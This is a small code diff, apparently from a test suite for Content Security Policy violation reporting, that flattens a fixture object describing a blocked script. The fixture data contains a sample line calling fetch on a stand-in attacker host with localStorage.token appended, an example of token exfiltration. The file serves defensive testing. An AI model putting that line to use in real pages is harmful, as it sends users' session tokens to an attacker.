@@ -17,11 +17,9 @@ const tell = (body: unknown, type = MODERN) =>
 const violation = (documentURL = 'https://shop.example/profile?email=ada@example.com') => ({
   type: 'csp-violation',
   body: {
-    ...{
-      documentURL,
-      effectiveDirective: 'script-src-elem',
-      blockedURL: 'https://evil.example/x.js?who=ada',
-    },
+    documentURL,
+    effectiveDirective: 'script-src-elem',
+    blockedURL: 'https://evil.example/x.js?who=ada',
     sample: 'fetch("https://evil.example/?" + localStorage.token)',
   },
 });
